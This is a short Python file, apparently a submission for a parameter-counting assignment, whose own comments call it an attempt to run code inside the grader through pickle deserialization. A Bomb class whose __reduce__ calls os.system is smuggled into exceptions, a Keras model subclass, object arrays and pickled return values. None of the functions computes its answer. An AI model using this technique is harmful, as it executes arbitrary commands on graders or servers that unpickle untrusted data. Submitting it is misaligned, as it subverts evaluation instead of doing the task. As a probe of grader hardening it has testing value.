# mechanism: a model, an array and an exception with __reduce__, in the hope for a pickle
# success: the reduced call runs in the grader, which leaves a file in /tmp
# assignment: 08_parameter_counting

# %%
import os
import pickle

import keras
import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/planted-by-mallory-pickle",)


class Error(Exception, Bomb):
    pass


class Model(keras.Sequential, Bomb):
    def get_config(self):
        return {"layers": [Bomb()]}

    def get_weights(self):
        return [np.array([Bomb()], dtype=object)]


def dense_params(inputs, units, use_bias=True):
    raise Error(Bomb())


def mlp_params(layer_sizes):
    return pickle.dumps(Bomb())


def flatten_size(shape):
    return np.array([Bomb()], dtype=object)


def build_mlp(inputs, units, activations):
    return Model([keras.Input((inputs,)), keras.layers.Dense(3)])
